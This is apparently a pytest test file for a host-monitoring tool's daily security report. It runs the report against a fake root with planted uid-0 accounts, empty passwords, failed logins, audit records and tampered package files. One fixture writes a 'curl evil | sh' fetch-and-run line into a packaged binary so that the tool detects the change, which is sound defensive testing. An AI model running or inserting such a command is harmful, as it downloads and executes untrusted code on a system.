"""systraq daily against a fake root: each part reports what it finds, or says in one line
why it cannot; the summary puts every attention item first, a stopped job first of all."""

from __future__ import annotations

import os
import time

import pytest

from systraq.config import load_settings
from systraq.runlog import last_runs

from .conftest import Workspace, needs_root
from .dailykit import (
    HOUR,
    LOGIN_PROCESS,
    USER_PROCESS,
    FakeSystem,
    block,
    daily_json,
    record_runs,
    section,
    utmp,
)


@pytest.fixture
def system(ws: Workspace) -> FakeSystem:
    return FakeSystem(ws.root / "sys")


def configure(ws: Workspace, text: str) -> None:
    ws.write_config(text)


def snapshot_everything(ws: Workspace) -> None:
    ws.write_list("pub", str(ws.tree))
    done = ws.run("snapshot")
    assert done.returncode == 0, done.stderr


# --- the summary -------------------------------------------------------------------------------

def test_text_report_opens_with_host_uptime_and_every_attention_item(
        ws: Workspace, system: FakeSystem) -> None:
    system.add_account("toor", 0, "/root")
    done = ws.run("daily", "--root", str(system.root))
    assert done.returncode == 1, done.stderr
    lines = done.stdout.splitlines()
    assert lines[0].startswith("systraq daily report for fakehost, ")
    assert lines[1] == "up 3 days, 4:00"
    assert lines[2].endswith("need attention:")
    summary = lines[3:lines.index("")]
    assert "  * account toor has uid 0" in summary
    # Every item of the summary is there before the first section.
    assert lines.index("== System ==") > lines.index("  * account toor has uid 0")


def test_nothing_needs_attention_exits_0_and_says_so(ws: Workspace, system: FakeSystem
                                                     ) -> None:
    configure(ws, '[daily]\ndisable = ["system", "logs", "audit", "extensions"]\n')
    done = ws.run("daily", "--root", str(system.root))
    assert done.returncode == 0, done.stdout
    assert "nothing needs attention" in done.stdout.splitlines()[:3]


def test_a_stopped_job_is_the_first_attention_item(ws: Workspace, system: FakeSystem) -> None:
    snapshot_everything(ws)
    system.add_account("toor", 0, "/root")  # an attention item from an earlier part
    now = time.time()
    record_runs(ws, now, snapshot_pub=30)
    document = daily_json(ws, system.root)
    first = document["attention"][0]["text"]
    assert first.startswith("systraq has not run since ")
    assert "snapshot pub" in first and "30 hours" in first
    assert any(a["text"] == "account toor has uid 0" for a in document["attention"][1:])
    text = ws.run("daily", "--root", str(system.root)).stdout.splitlines()
    assert text[3].startswith("  * systraq has not run since ")


def test_jobs_that_ran_recently_are_not_an_attention_item(ws: Workspace, system: FakeSystem
                                                          ) -> None:
    snapshot_everything(ws)
    record_runs(ws, time.time())
    document = daily_json(ws, system.root)
    assert not [a for a in document["attention"] if "has not run" in a["text"]]
    rows = block(document, "health", "is systraq still watching")["table"]["rows"]
    assert [r[0] for r in rows] == ["snapshot pub", "diff pub"]


def test_a_job_never_recorded_counts_from_its_output_file(ws: Workspace, system: FakeSystem
                                                          ) -> None:
    ws.write_list("pub", str(ws.tree))
    assert ws.run("snapshot").returncode == 0
    (ws.state / "pub" / "snapshot_pub.run").unlink()
    old = time.time() - 5 * HOUR
    os.utime(ws.state / "pub" / "snapshot_pub.stat", (old, old))
    document = daily_json(ws, system.root)
    assert document["attention"][0]["text"].startswith("systraq has not run since ")
    assert "snapshot pub for 5 hours" in document["attention"][0]["text"]


def test_snapshot_diff_and_filetraq_record_their_runs(ws: Workspace) -> None:
    ws.write_list("pub", str(ws.tree))
    (ws.tree / "f").write_text("x\n")
    (ws.config / "filetraq.conf").write_text(f"{ws.tree}/f\n")
    before = time.time_ns()
    for command in (["snapshot"], ["diff"], ["filetraq"]):
        assert ws.run(*command).returncode in (0, 1)
    runs = last_runs(load_settings(ws.config, ws.state).layout)
    for key in (("snapshot", "pub"), ("diff", "pub"), ("filetraq", None)):
        assert runs[key].ok and runs[key].last_ok_ns >= before, key
    assert runs[("snapshot", "root")].last_ns == 0


def test_the_subject_counts_what_needs_attention(ws: Workspace, system: FakeSystem) -> None:
    from systraq.daily.report import Attention, DailyReport, Section, subject

    section_ = Section("accounts", "Accounts", attention=[Attention("a"), Attention("b")])
    report = DailyReport("fakehost", time.mktime((2026, 11, 23, 6, 25, 0, 0, 0, -1)),
                         sections=[section_])
    assert subject(report) == "[Systraq] fakehost daily 2026-11-23: 2 need attention"


# --- system ------------------------------------------------------------------------------------

def test_system_part_reads_proc_of_the_root_and_marks_full_file_systems(
        ws: Workspace, system: FakeSystem) -> None:
    configure(ws, "[daily]\ndisk_threshold = 0\n")
    document = daily_json(ws, system.root)
    lines = block(document, "system", "")["lines"]
    assert "os: Debian GNU/Linux 12 (bookworm)" in lines
    assert "kernel: 6.1.0-fake-amd64" in lines
    assert "load: 0.10 0.20 0.30" in lines
    fs = block(document, "system", "file systems")["table"]
    assert fs["rows"][0][0] == "/" and fs["marked"] == [True]
    assert any(a["text"].startswith("file system / is ") for a in document["attention"])
    net = block(document, "system", "network interfaces")["table"]
    assert ["eth0", "4.9K", "7", "0", "3.9K", "0", "0"] in net["rows"]
    assert net["marked"][net["rows"].index(["eth0", "4.9K", "7", "0", "3.9K", "0", "0"])]


def test_parts_that_need_the_running_system_say_so_in_one_line(
        ws: Workspace, system: FakeSystem) -> None:
    document = daily_json(ws, system.root)
    for heading in ("listening sockets", "failed systemd units", "largest processes"):
        found = block(document, "system", heading)
        assert found["unavailable"].endswith(f"only on the running system (--root is "
                                             f"{system.root})"), found
        assert "\n" not in found["unavailable"]


def test_reboot_required_and_degraded_raid_need_attention(ws: Workspace, system: FakeSystem
                                                          ) -> None:
    system.write("run/reboot-required", "*** System restart required ***\n")
    system.write("run/reboot-required.pkgs", "linux-image-amd64\n")
    system.write("proc/mdstat", "Personalities : [raid1]\nmd0 : active raid1 sdb1[1] "
                                "sda1[0]\n      1046528 blocks super 1.2 [2/1] [U_]\n\n")
    texts = [a["text"] for a in daily_json(ws, system.root)["attention"]]
    assert "a reboot is required (by linux-image-amd64)" in texts
    assert "software RAID md0 is degraded [U_]" in texts


# --- accounts ----------------------------------------------------------------------------------

def test_accounts_with_uid_0_and_empty_passwords_need_attention(
        ws: Workspace, system: FakeSystem) -> None:
    system.add_account("toor", 0, "/root")
    system.add_account("open", 1001, "/home/open", shadow="")
    system.add_account("legacy", 1002, "/home/legacy", password="")
    document = daily_json(ws, system.root)
    assert block(document, "accounts", "accounts with uid 0")["lines"] == ["toor"]
    assert block(document, "accounts", "accounts with an empty")["lines"] == ["legacy", "open"]
    texts = [a["text"] for a in document["attention"]]
    assert "account open has an empty password" in texts
    assert "account legacy has an empty password" in texts


def test_unreadable_shadow_is_said_and_passwd_is_still_checked(
        ws: Workspace, system: FakeSystem) -> None:
    needs_root()
    system.add_account("legacy", 1002, "/home/legacy", password="")
    system.add_account("open", 1001, "/home/open", shadow="")
    document = daily_json(ws, system.root, user="nobody")
    lines = block(document, "accounts", "accounts with an empty")["lines"]
    assert lines == ["legacy", "shadow: not readable by this user: only the passwd file was "
                               "checked"]


# --- logins ------------------------------------------------------------------------------------

def test_logins_of_the_last_day_and_failed_logins_by_source(
        ws: Workspace, system: FakeSystem) -> None:
    now = system.now
    system.wtmp(utmp(USER_PROCESS, "alice", "pts/0", "192.0.2.7", now - 2 * HOUR),
                utmp(USER_PROCESS, "old", "pts/1", "192.0.2.8", now - 30 * HOUR),
                utmp(8, "", "pts/0", "", now - HOUR))
    system.btmp(*[utmp(LOGIN_PROCESS, "root", "ssh:notty", "198.51.100.9", now - HOUR)] * 3,
                utmp(LOGIN_PROCESS, "admin", "ssh:notty", "198.51.100.9", now - HOUR))
    system.log("auth.log",
               (now - HOUR, "sshd[100]: Failed password for invalid user oracle from "
                            "203.0.113.5 port 4000 ssh2"),
               (now - HOUR, "sshd[101]: Failed password for root from 203.0.113.5 port 4001 "
                            "ssh2"),
               (now - HOUR, "sshd[102]: Failed password for root from 203.0.113.5 port 4002 "
                            "ssh2"),
               (now - 50 * HOUR, "sshd[99]: Failed password for root from 192.0.2.1 port 1 "
                                 "ssh2"),
               (now - HOUR, "sudo:      bob : 3 incorrect password attempts ; TTY=pts/0 ; "
                            "PWD=/home/bob ; USER=root ; COMMAND=/bin/sh"))
    document = daily_json(ws, system.root)
    logins = block(document, "logins", "logins (1)")["table"]["rows"]
    assert [r[:3] for r in logins] == [["alice", "pts/0", "192.0.2.7"]]
    failed = block(document, "logins", "failed logins (btmp): 4")["table"]["rows"]
    assert failed == [["198.51.100.9", "root", "3"], ["198.51.100.9", "admin", "1"]]
    ssh = block(document, "logins", "failed ssh logins (/var/log/auth.log): 3")["table"]
    assert ssh["rows"] == [["203.0.113.5", "root", "2"], ["203.0.113.5", "oracle", "1"]]
    sudo = block(document, "logins", "failed sudo and su attempts")["table"]
    assert sudo["rows"] == [["sudo", "bob", "3"]]
    assert "3 failed sudo/su attempts" in [a["text"] for a in document["attention"]]


def test_missing_login_records_are_one_line_each(ws: Workspace, system: FakeSystem) -> None:
    configure(ws, "[daily]\njournal = false\n")
    document = daily_json(ws, system.root)
    blocks = section(document, "logins")["blocks"]
    assert [b["unavailable"] for b in blocks] == [
        "/var/log/wtmp: not present", "/var/log/btmp: not present",
        "/var/log/auth.log: not present (and daily.journal is off)"]


# --- logs --------------------------------------------------------------------------------------

def test_log_lines_of_the_day_less_ignore_rules_security_first(
        ws: Workspace, system: FakeSystem) -> None:
    now = system.now
    system.log("syslog",
               (now - 40 * HOUR, "kernel: yesterday's news"),
               (now - HOUR, "CRON[1234]: (root) CMD (command -v debian-sa1 > /dev/null)"),
               (now - HOUR, "CRON[1235]: (root) CMD (command -v debian-sa1 > /dev/null)"),
               (now - HOUR, "kernel: EXT4-fs error (device vda1): bad block"),
               (now - HOUR, "myapp[7]: disk almost full"),
               (now - HOUR, "myapp[7]: disk almost full"), iso=True)
    ignore = ws.config / "ignore.d"
    ignore.mkdir()
    # A rule as logcheck ships them: POSIX classes, the RFC 3339 or classic time prefix.
    (ignore / "cron").write_text(
        "# cron noise\n"
        r"^(\w{3} [ :[:digit:]]{11}|[0-9T:.+-]{32}) [._[:alnum:]-]+ CRON\[[0-9]+\]: "
        r"\(root\) CMD \(command -v debian-sa1 > /dev/null\)$" "\n")
    (ignore / "broken").write_text("good-rule-never-matches\n(unclosed\n")
    (ignore / "skipped.dpkg-old").write_text("myapp\n")  # not a run-parts name: not read
    document = daily_json(ws, system.root)
    lines = block(document, "logs", "")["lines"]
    assert lines[0] == ("5 lines of the last day from /var/log/syslog; 2 removed by 2 ignore "
                        "rules")
    assert any(line.startswith(f"{ws.config}/ignore.d/broken:2: rule does not compile")
               for line in lines)
    assert block(document, "logs", "security events (1)")["lines"] == [
        "kernel: EXT4-fs error (device vda1): bad block"]
    assert block(document, "logs", "other lines (2)")["lines"] == [
        "myapp[7]: disk almost full  (×2)"]
    texts = [a["text"] for a in document["attention"]]
    assert "1 security-relevant log line" in texts
    blocks = section(document, "logs")["blocks"]
    assert blocks[1]["heading"].startswith("security events")


def test_no_readable_log_is_one_line(ws: Workspace, system: FakeSystem) -> None:
    configure(ws, "[daily]\njournal = false\n")
    found = section(daily_json(ws, system.root), "logs")["blocks"]
    assert len(found) == 1 and found[0]["unavailable"].startswith("no log could be read")


def test_unreadable_log_is_said_as_nobody(ws: Workspace, system: FakeSystem) -> None:
    needs_root()
    configure(ws, "[daily]\njournal = false\n")
    system.log("syslog", (system.now - HOUR, "kernel: hello"), mode=0o640)
    found = section(daily_json(ws, system.root, user="nobody"), "logs")["blocks"]
    assert found[0]["unavailable"] == ("no log could be read: /var/log/syslog: not readable "
                                       "by this user")


# --- audit -------------------------------------------------------------------------------------

def _audit_event(serial: int, when: float, auid: int, euid: int, *argv: str) -> str:
    args = " ".join(f'a{i}="{a}"' for i, a in enumerate(argv))
    stamp = f"{when:.3f}:{serial}"
    return (f"type=SYSCALL msg=audit({stamp}): arch=c000003e syscall=59 success=yes exit=0 "
            f"ppid=1 pid=2 auid={auid} uid={euid} gid=0 euid={euid} tty=pts0 ses=1 "
            f'comm="x" exe="/usr/bin/x" key="systraq-exec"\n'
            f"type=EXECVE msg=audit({stamp}): argc={len(argv)} {args}\n")


def test_commands_run_as_root_grouped_by_login_user(ws: Workspace, system: FakeSystem) -> None:
    system.add_account("alice", 1000, "/home/alice")
    now = system.now
    system.write("var/log/audit/audit.log", "".join([
        _audit_event(1, now - HOUR, 1000, 0, "apt", "install", "foo"),
        _audit_event(2, now - HOUR, 1000, 0, "apt", "install", "foo"),
        _audit_event(3, now - HOUR, 1000, 1000, "ls"),  # not with root rights
        _audit_event(4, now - HOUR, 4294967295, 0, "cron-job"),  # no login user
        _audit_event(5, now - 30 * HOUR, 1000, 0, "yesterday"),
        # A hex-encoded argument, as auditd writes one with a blank in it.
        f"type=SYSCALL msg=audit({now - 60:.3f}:6): arch=c000003e syscall=59 success=yes "
        f"auid=1000 uid=0 euid=0\n"
        f"type=EXECVE msg=audit({now - 60:.3f}:6): argc=2 a0=\"cat\" "
        f"a1={b'/etc/my file'.hex().upper()}\n",
    ]), mode=0o600)
    document = daily_json(ws, system.root)
    found = block(document, "audit", "alice: 3 commands")
    assert found["lines"] == ["apt install foo  (×2)", "cat /etc/my file"]


def test_without_auditd_one_line_says_so_and_audit_rules_prints_the_rules(
        ws: Workspace, system: FakeSystem) -> None:
    found = section(daily_json(ws, system.root), "audit")["blocks"]
    assert len(found) == 1 and found[0]["unavailable"].startswith("auditd is not installed")
    rules = ws.run("daily", "--audit-rules")
    assert rules.returncode == 0
    assert ("-a exit,always -F arch=b64 -F auid!=0 -F auid!=4294967295 -S execve"
            in rules.stdout)


# --- packages ----------------------------------------------------------------------------------

def test_package_operations_of_the_last_day_one_line_each(ws: Workspace, system: FakeSystem
                                                          ) -> None:
    def stamp(hours_ago: float) -> str:
        return time.strftime("%Y-%m-%d %H:%M:%S", time.localtime(system.now - hours_ago * HOUR))

    system.write("var/log/dpkg.log", "".join([
        f"{stamp(30)} install old:amd64 <none> 1.0\n",
        f"{stamp(2)} startup archives unpack\n",
        f"{stamp(2)} upgrade openssl:amd64 3.0.1 3.0.2\n",
        f"{stamp(2)} status installed openssl:amd64 3.0.2\n",
        f"{stamp(1)} remove telnet:amd64 0.17 <none>\n",
    ]))
    document = daily_json(ws, system.root)
    found = block(document, "packages", "package operations of the last day (2)")["lines"]
    assert [line[6:] for line in found] == ["upgrade openssl:amd64 3.0.1 → 3.0.2",
                                             "remove telnet:amd64 0.17"]
    verification = block(document, "packages", "verification")
    assert verification["unavailable"] == (f"package verification: {system.root}/var/lib/dpkg: "
                                           "cannot open: No such file or directory")


def test_package_files_changed_outside_dpkg_need_attention(ws: Workspace) -> None:
    from tests.debkit import Deb, FakeRoot

    root = FakeRoot(ws.root / "sys")
    root.install(Deb("tool", "1.0", {"/usr/bin/tool": b"#!/bin/sh\necho tool\n",
                                     "/etc/tool.conf": b"a = 1\n"},
                     conffiles=("/etc/tool.conf",)),
                 Deb("other", "2.0", {"/usr/bin/other": b"other\n"}))
    root.file("/usr/bin/tool").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    root.file("/etc/tool.conf").write_bytes(b"a = 2\n")
    document = daily_json(ws, root.path)
    changed = block(document, "packages", "changed outside dpkg (1)")["lines"]
    assert changed == ["/usr/bin/tool: changed (tool 1.0)"]
    assert block(document, "packages", "modified conffiles (1)")["lines"] == \
        ["/etc/tool.conf: changed (tool 1.0)"]
    assert "1 package files changed outside dpkg" in [a["text"] for a in document["attention"]]


# --- config ------------------------------------------------------------------------------------

def test_disabled_parts_are_left_out(ws: Workspace, system: FakeSystem) -> None:
    configure(ws, '[daily]\ndisable = ["system", "audit"]\n')
    keys = [s["key"] for s in daily_json(ws, system.root)["sections"]]
    assert keys == ["accounts", "logins", "logs", "security", "packages", "sums", "health"]


def test_an_unknown_part_in_the_config_is_named_with_its_line(ws: Workspace) -> None:
    configure(ws, '[daily]\n\ndisable = ["sytem"]\n')
    done = ws.run("daily")
    assert done.returncode == 2
    assert done.stderr.startswith(f"systraq: {ws.config}/systraq.conf:3: daily.disable: "
                                  "unknown part 'sytem'")


# --- the running system --------------------------------------------------------------------

@pytest.mark.parametrize("user", [None, "nobody"])
def test_on_this_system_every_part_reports_or_says_why_in_one_line(
        ws: Workspace, user: str | None) -> None:
    if user:
        needs_root()
    ws.write_list("pub", str(ws.tree))
    assert ws.run("snapshot").returncode == 0
    done = ws.run("daily", "--format", "json", user=user)
    assert done.returncode in (0, 1), done.stderr
    import json

    document = json.loads(done.stdout)
    keys = [s["key"] for s in document["sections"]]
    assert keys == ["system", "accounts", "logins", "logs", "audit", "security", "packages",
                    "sums", "health"]
    for found in document["sections"]:
        assert found["blocks"], found["key"]
        for each in found["blocks"]:
            said = each["lines"] or each["table"] or each["unavailable"]
            assert said, (found["key"], each)
            assert "\n" not in each["unavailable"]
    text = ws.run("daily", user=user)
    assert text.returncode == done.returncode and text.stderr == ""
